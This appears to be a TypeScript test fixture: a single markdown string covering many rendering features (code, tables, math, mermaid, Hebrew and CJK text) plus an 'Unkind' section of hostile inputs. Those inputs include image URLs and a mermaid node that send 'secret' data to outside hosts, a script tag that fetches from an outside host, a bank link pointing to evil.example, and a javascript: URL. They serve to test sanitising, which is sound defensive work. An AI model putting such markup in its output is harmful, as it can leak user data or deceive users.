/** A reply with everything that a reply can have, kind and unkind. */
export const EVERYTHING = `# The harbour at night

Words with **weight**, some *slant*, ~~an error~~ and \`code\` in the line. A plain [link to the guide](https://guide.example/tides), and footnotes[^light][^2].

## Code

Look at this:
\`\`\`ts
export function tide(hour: number): string {
  // Twice a day, and never twice alike.
  return hour % 12 < 6 ? "rising" : "falling";
}
\`\`\`

## Table

| Light | Height | Since |
| :--- | ---: | :---: |
| Bell Rock | 35 m | 1810 |
| Eddystone | 49 m | 1882 |

## Formulas

The period is \\(T = 2\\pi\\sqrt{\\frac{l}{g}}\\), which costs $5 or $10, and $a^2 + b^2 = c^2$ holds.

\\[
\\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}
\\]

## Diagram

\`\`\`mermaid
graph LR
  Boat --> Harbour
  Harbour --> Town
\`\`\`

\`\`\`mermaid
graph TD
  A@{ img: "https://outside.example/pixel.png?q=secret", label: "A" }
\`\`\`

## Tasks

- [x] Light the lamp
- [ ] Count the waves
  1. the small ones
  2. the large ones

## Directions

שלום לכולם, זה טקסט בעברית עם מילה English באמצע.

- אחד
- שתיים

日本語の**強調（かっこ）**も正しく表示されます。中文**“引号”**旁边的强调也是。

> A quotation, with more than one line
> of words in it.

## Unkind

![a picture](https://outside.example/picture.png?data=secret)

<img src="https://outside.example/html.png" alt="html picture"> <script>fetch("https://outside.example/script")</script>

Go to [https://bank.example/login](https://evil.example/login) or [here](https://outside.example/?q=secret), but not [there](javascript:alert(1)).

[^light]: It is lit by [nobody](https://guide.example/nobody).
[^2]: The second note.
`;
